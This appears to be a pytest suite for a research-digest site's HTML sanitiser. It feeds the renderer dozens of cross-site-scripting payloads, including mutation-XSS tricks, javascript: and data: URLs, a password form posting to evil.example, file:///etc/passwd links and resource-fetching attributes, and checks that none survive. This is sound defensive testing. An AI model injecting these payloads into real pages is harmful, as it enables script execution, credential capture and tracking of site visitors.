"""What strangers send: nothing of it reaches a reader that is not on the allow-list, and every text gives a page."""

# ruff: noqa: E501 - a hostile text stands on its line
from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Literal

import html5lib
import lxml.html
import pytest
from allowed import violations
from hypothesis import example, given, settings
from hypothesis import strategies as st

from always import Always
from research_digest.body import Options, diagrams, render
from research_digest.body.parts import put_parts
from research_digest.body.policy import sanitise

SOURCE = "https://example.org/a/b"


# A family a line: what it tries, and a text of ours that tries it.
HOSTILE: dict[str, str] = {
    "script": "<script>run()</script>",
    "script, odd spelling": "<ScRiPt/x>run()</sCrIpT\n><script\n>run()",
    "script from elsewhere": '<script src="https://evil.example/x.js"></script>',
    "script split by a comment": "<scr<!-- x -->ipt>run()</scr<!-- x -->ipt>",
    "handler": "<b onclick=run()>x</b><img src=x onerror=run()><p onmouseover='run()'>y",
    "handler after a slash": "<img/src=x/onerror=run()><svg/onload=run()>",
    "javascript in a link": "[x](javascript:run()) [y](JaVaScRiPt:run()) <a href=' javascript:run()'>z</a>",
    "javascript hidden by entities": "<a href='jav&#x09;ascript:run()'>x</a><a href='&#106;avascript:run()'>y</a>",
    "javascript in a definition": "[x]\n\n[x]: javascript:run()",
    "javascript in a picture": "![x](javascript:run()) <img src='javascript:run()'><input type=image src=javascript:run()>",
    "data in a link": "[x](data:text/html;base64,PHNjcmlwdD4=) <a href='data:text/html,x'>y</a>",
    "data in a picture": "![x](data:image/svg+xml,<svg/onload=run()>) ![y](data:text/html,x)",
    "vbscript, file, blob": "[a](vbscript:run()) [b](file:///etc/passwd) [c](blob:https://example.org/1)",
    "frame": "<iframe src=javascript:run()></iframe><iframe srcdoc='<script>run()</script>'></iframe>",
    "object and embed": "<object data=x><param name=a></object><embed src=x><applet code=x></applet>",
    "form": "<form action=https://evil.example><input name=password><button formaction=javascript:run()>x</button></form>",
    "base and meta": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "<style>*{display:none}</style><p style='position:fixed;inset:0'>x</p><link rel=stylesheet href=x>",
    "svg": "<svg><a xlink:href='javascript:run()'><text>x</text></a><animate attributeName=href values=javascript:run() /></svg>",
    "svg with foreign content": "<svg><foreignObject><img src=x onerror=run()></foreignObject></svg>",
    "mathml": "<math><mi href='javascript:run()'>x</mi><maction actiontype=statusline xlink:href=javascript:run()>y</maction></math>",
    "mutation through math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=run()&gt;'>",
    "mutation through svg": "<svg></p><style><a id='</style><img src=1 onerror=run()>'>",
    "mutation through noscript": "<noscript><p title='</noscript><img src=x onerror=run()>'>",
    "mutation through a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
    "mutation through raw text": "<xmp><img src=x title='</xmp><script>run()</script>'></xmp><noembed><p id='</noembed><img onerror=run() src=x>'>",
    "comment that ends early": "<!--><img src=x onerror=run()>--> <!--- ><img src=x onerror=run()>-->",
    "instruction": "<?php ><img src=x onerror=run()> ?> <![CDATA[><img src=x onerror=run()>]]> <!DOCTYPE x [<!ENTITY y 'z'>]>",
    "unclosed attribute": "<a title='x\n\n<img src=x onerror=run()>\n\n'>y</a> <b title=\"`<i>",
    "ids of the theme": "<p id=__config>{}</p><a id=__search name=getElementById></a>\n\n## __config\n\n## {} {#__palette}",
    "ids of the site": "<p id=c-x>x</p><p id='a b'>y</p><p id='<'>z</p>",
    "classes of the theme": "<a class=md-consent__overlay href=https://example.org>x</a><div class='md-search admonition'>y</div>",
    "names and data": "<img name=cookie src=https://example.org/a.png><p data-clipboard-text=x data-md-component=y data-part=0>z</p>",
    "parts forged": "$x$ <span data-part=0></span> <span data-part=0><b>z</b></span> <span data-part='<script>'>x</span> <i title='<span data-part=0></span>'>y</i>",
    "marks forged": "&#xFDD0;[[x]] &#xFDD1;x &#xFDD2; \ufdd0<a href=javascript:run()>y</a>",
    "attributes of a link": "<a href=https://example.org target=_blank ping=https://evil.example rel=opener download=x.exe>x</a>",
    "titles read as HTML": "[x](https://example.org '&lt;img src=x onerror=run()&gt;') <abbr title='&amp;lt;img onerror=run()&amp;gt;'>y</abbr>",
    "alt read as HTML": '!["><img src=x onerror=run()>](https://example.org/a.png)',
    "media": "<video autoplay src=https://evil.example/v.mp4 onerror=run()></video><audio autoplay loop><source src=javascript:run()></audio>",
    "pictures of other sizes": "<picture><source srcset=https://evil.example/s.png><img srcset='https://evil.example/t.png 2x' src=https://example.org/a.png></picture>",
    "image maps": "<img src=https://example.org/a.png usemap=#m ismap><map name=m><area href=javascript:run()></map>",
    "old attributes": "<table background=https://evil.example/b.png><tr><td background=x bgcolor=red width=9999>x</td></tr></table><body onload=run()>",
    "elements left open": "<div><section><table><tr><td><b><i><details><summary>x",
    "elements closed too often": "</div></article></main></body></html></script></td>x",
    "elements that swallow": "<textarea>\n\n<title>\n\n<xmp>\n\n<plaintext>\n\nstill here",
    "dialogs and slots": "<dialog open>x</dialog><slot name=x>y</slot><template shadowrootmode=open><script>run()</script></template>",
    "formula": "$\\href{javascript:run()}{x}$ $$\\text{<script>run()</script>}$$ $</span><img src=x onerror=run()>$ $\\style{a}{b}$",
    "fence": "``` {.python onclick=run() id=__config hl_lines='1-300000000'}\nx\n```\n\n```html\n<script>run()</script>\n```",
    "fence of mermaid": '```mermaid\nflowchart TD\n A["<img src=x onerror=run()>"]\n click A "javascript:run()"\n```',
    "wikilink": '[[javascript:run()]] [[x|<img src=x onerror=run()>]] ![[../../../etc/passwd]] [["onclick=run()]] [[//evil.example]]',
    "callout": '> [!note] <img src=x onerror=run()>\n> x\n\n> [!" onclick=run()]- y',
    "footnote": 'x[^"><script>run()</script>] y[^a]\n\n[^a]: <img src=x onerror=run()>\n[^"><script>run()</script>]: z',
    "heading": "## <img src=x onerror=run()> x\n\n## &lt;img src=x onerror=run()&gt; y",
    "table": "| <script>run()</script> | `<b>` |\n|:-|-:|\n| <img src=x onerror=run()> | [x](javascript:run()) |",
    "highlight and comment": "==<img src=x onerror=run()>== %%<script>run()</script>%%",
    "card": "![\"><script>run()</script>](https://www.youtube.com/watch?v=abcdefghijk) <iframe src='//youtu.be/abcdefghijk\" onload=run()'></iframe>",
    "control characters": "<a href='java\x00script:run()'>x</a> <im\x00g src=x onerror=run()> \x1b[31m \ud800",
    "other directions": "\u202egnp.exe\u202c \u2066x \u200f",
}


@pytest.fixture(autouse=True, scope="module")
def _no_diagrams() -> Iterator[None]:
    """Diagrams are pictures of our own as data, which is what the lists forbid to others; test_body.py has them."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(diagrams, "_renderer", lambda: None)
        yield


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_outside_the_allow_list(name: str) -> None:
    html = render(f"before\n\n{HOSTILE[name]}\n\nafter", Options(source=SOURCE)).html
    assert list(violations(html)) == []
    assert "before" in html
    assert "after" in html
    assert not _runs(html)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_policy_holds_alone(name: str) -> None:
    """Whatever the steps before it leave or make."""
    html = put_parts(sanitise(HOSTILE[name].replace("\x00", "").replace("\ud800", "")), [])
    assert list(violations(html)) == []
    assert not _runs(html)


@pytest.mark.parametrize("name", HOSTILE)
def test_pictures_from_elsewhere_stay_away_where_the_site_hides_them(name: str) -> None:
    html = render(HOSTILE[name], Options(source=SOURCE, images="hide")).html
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    assert not [each for each in tree.iter("img") if ":" in each.get("src", "") and each.get("src")[:5] != "data:"]
    assert not [each for each in tree.iter("video") if each.get("poster")]


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        ('<a href="ftp://example.org/">x</a>', "<a>x</a>"),
        ('<a href="#__search">x</a>', "<a>x</a>"),
        ('<a href="//evil.example">x</a>', "<a>x</a>"),
        ('<a href="../note/#c-part">x</a>', '<a href="../note/#c-part">x</a>'),
        ('<a title="&amp;lt;img onerror=run()&amp;gt;">x</a>', "<a>x</a>"),
        ('<a title="1 &lt; 2">x</a>', '<a title="1 ‹ 2">x</a>'),
        ('<a rel="opener" href="https://example.org">x</a>', '<a href="https://example.org">x</a>'),
        ('<p id="__config" style="x" name="y" data-x="z">x</p>', "<p>x</p>"),
        ('<td colspan="1000" rowspan="2">x</td>', "x"),
    ],
)
def test_policy(html: str, clean: str) -> None:
    assert sanitise(html) == clean


def test_policy_without_pictures_from_elsewhere() -> None:
    html = '<img src="https://evil.example/a.png"><img src="../../attachments/b.png">'
    assert sanitise(html, images="hide").count("src=") == 1


def _runs(html: str) -> bool:
    """Whether a browser would run something: said without the allow-list, by what is known to run."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return any(
        each.tag in ("script", "iframe", "object", "embed", "style", "base", "meta", "link", "form", "svg")
        or any(
            name.startswith("on") or re.match(r"\s*(javascript|vbscript|data:text)", value)
            for name, value in each.attrib.items()
        )
        for each in tree.iter()
        if isinstance(each.tag, str)
    )


PIECES = st.sampled_from(
    [
        *HOSTILE.values(),
        *"[ ]( ) ![[ ]] [[ == %% $ $$ ` ``` ~~~ > - * ** _ # | |-| <b> </b> <p <!-- --> & &lt; ^[ [^a]: [^a] ^id \n \n\n \t".split(
            " "
        ),
        "> [!tip]- x\n",
        "- [ ] ",
        "    ",
        "<div>",
        "</div>",
        "<td>",
        "<math>",
        "</math>",
        "<math><mi>",
        "<details>",
        "<source>",
        "x",
        "é",
        "文",
    ]
)
TEXTS = st.one_of(st.text(max_size=300), st.lists(PIECES, max_size=30).map("".join))


@settings(max_examples=400, deadline=None)
@given(text=TEXTS)
@example(text="<math><mi><table><b></math>x")
@example(text="<MATH>==0\n\n0==</math>")
def test_any_text_gives_a_sound_body(text: str) -> None:
    body = render(text, Options(title="T", description="D", source=SOURCE, files=Always("/file"), notes=Always("/n/")))
    assert list(violations(body.html)) == []
    assert not _runs(body.html)
    ids = re.findall(r'<[^<>]* id="([^"]*)"', body.html)
    assert len(ids) == len(set(ids))
    assert {heading.id for heading in body.outline} <= set(ids)
    assert {highlight.id for highlight in body.highlights} <= set(ids)
    # Balanced: what stands after it in a page stands after it in the tree.
    page = html5lib.parseFragment(f"<main>{body.html}</main><footer></footer>", namespaceHTMLElements=False)
    assert [child.tag for child in page] == ["main", "footer"]


EVIL = "https://evil.example/x"
# Every attribute and element by which HTML has a browser fetch something, of HTML's own tables and of older browsers.
FETCHING = (
    '<img src="{}"> <img srcset="{} 2x" src="{}1"> <img srcset="{} 1x, {}2 2x"> <img lowsrc="{}" dynsrc="{}">',
    '<picture><source srcset="{}"><img src="{}1"></picture>',
    '<video poster="{}" src="{}1" autoplay preload="auto"></video> <video><source src="{}"><track src="{}" default></video>',
    '<audio src="{}" preload="auto" autoplay></audio> <bgsound src="{}">',
    '<iframe src="{}" srcdoc="<img src={}>"></iframe> <frameset><frame src="{}"></frameset> <portal src="{}"></portal>',
    '<embed src="{}"> <object data="{}" codebase="{}" archive="{}"></object> <applet code="{}"></applet>',
    '<link rel="stylesheet" href="{}"> <link rel="preload" imagesrcset="{}" as="image"> <script src="{}"></script>',
    '<input type="image" src="{}"> <button formaction="{}">b</button> <form action="{}">f</form>',
    '<body background="{}"><table background="{}"><tr background="{}"><td background="{}">x</td></tr></table>',
    '<a href="/x" ping="{}">a</a> <p style="background: url({})">s</p> <blockquote cite="{}">q</blockquote>',
    '<svg><image href="{}" xlink:href="{}"/><use href="{}"/><feImage href="{}"/><text>t</text></svg>',
    '<svg><style>@import "{}"</style><script href="{}"/><animate attributeName="href" to="{}"/></svg>',
    '<math><mglyph src="{}"/><mi href="{}">x</mi><maction actiontype="statusline" xlink:href="{}">y</maction></math>',
    '<meta http-equiv="refresh" content="0;{}"><base href="{}"><html manifest="{}">',
)


@pytest.mark.parametrize("markup", FETCHING)
@pytest.mark.parametrize("images", ["link", "hide"])
def test_what_loads_by_itself_is_a_lazy_picture_or_nothing(markup: str, images: Literal["link", "hide"]) -> None:
    html = render(markup.replace("{}", EVIL), Options(source="https://s.example/", images=images)).html
    loading = [
        f"{element.tag} {name}"
        for element in lxml.html.fragment_fromstring(html, create_parent="div").iter()
        for name, value in element.attrib.items()
        if EVIL in value and not (element.tag == "a" and name == "href") and not _waits(element, str(name))
    ]
    assert loading == []
    assert images == "link" or "<img" not in html


def _waits(element: lxml.html.HtmlElement, name: str) -> bool:
    """Whether a picture waits until it is seen and says nothing of the page, or a player until it is started."""
    if element.tag == "img":
        return name == "src" and element.get("loading") == "lazy" and element.get("referrerpolicy") == "no-referrer"
    return element.tag in ("video", "audio") and name == "src" and element.get("preload") == "none"
